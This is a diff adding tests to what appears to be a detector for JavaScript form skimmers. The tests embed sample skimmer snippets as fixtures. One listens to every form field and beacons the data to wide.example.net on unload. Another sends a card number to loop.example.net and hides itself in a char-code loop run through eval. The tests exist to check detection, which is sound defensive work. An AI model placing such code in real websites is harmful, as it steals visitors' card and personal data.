@@ -89,6 +89,17 @@ def test_field_labels_know_card_personal_and_all_fields() -> None:
     assert B.field_labels("") == frozenset({FORM})
 
 
+def test_document_wide_listeners_read_every_field() -> None:
+    code = ("var d = {}; document.addEventListener('change', function (e) { d[e.target.name] = e.target.value; });\n"
+            "window.addEventListener('beforeunload', function () {"
+            " navigator.sendBeacon(location.protocol + '//wide.example.net/c', JSON.stringify(d)); });")
+    (send,) = sends(code)
+    assert send.host == "wide.example.net" and ALL_FIELDS in send.carries
+    one_field = code.replace("document.addEventListener", "document.getElementById('q').addEventListener")
+    (send,) = sends(one_field)
+    assert send.carries_form and ALL_FIELDS not in send.carries
+
+
 def test_an_unrelated_value_property_is_not_a_form_read() -> None:
     assert not facts("var it = iterator.next(); var v = it.value; send(v);", B.FIELD_READ)
 
@@ -291,6 +302,20 @@ def _host_of(code: str) -> str | None:
 )
 def test_constant_folding_resolves_hidden_hosts(expr: str, host: str) -> None:
     assert _host_of(f"var u = {expr};") == host
+
+
+@pytest.mark.parametrize(("op", "encode"), [("+2", lambda c: chr(ord(c) - 2)), ("-10", lambda c: chr(ord(c) + 10)),
+                                           ("^7", lambda c: chr(ord(c) ^ 7))])
+def test_char_code_loops_decode_and_the_decoded_code_is_analysed(op: str, encode: object) -> None:
+    inner = "var v = document.getElementById('cc_number').value; new Image().src = 'https://loop.example.net/?' + v;"
+    hidden = "".join(encode(c) for c in inner).replace("\\", "\\\\").replace("'", "\\'")
+    code = ("var x = '" + hidden + "', y = '', z = x['length'];\n"
+            "for (i = 0; i < z; i++) { y += String['fromCharCode'](x['charCodeAt'](i)" + op + "); }\n"
+            "this['eval'](y);")
+    result = behaviour_facts(code)
+    assert any(f.kind == B.EXEC_DECODED for f in result.facts)
+    (send,) = [f for f in result.facts if f.kind == B.SEND]
+    assert send.host == "loop.example.net" and CARD in send.carries
 
 
 def test_string_table_lookups_resolve() -> None:
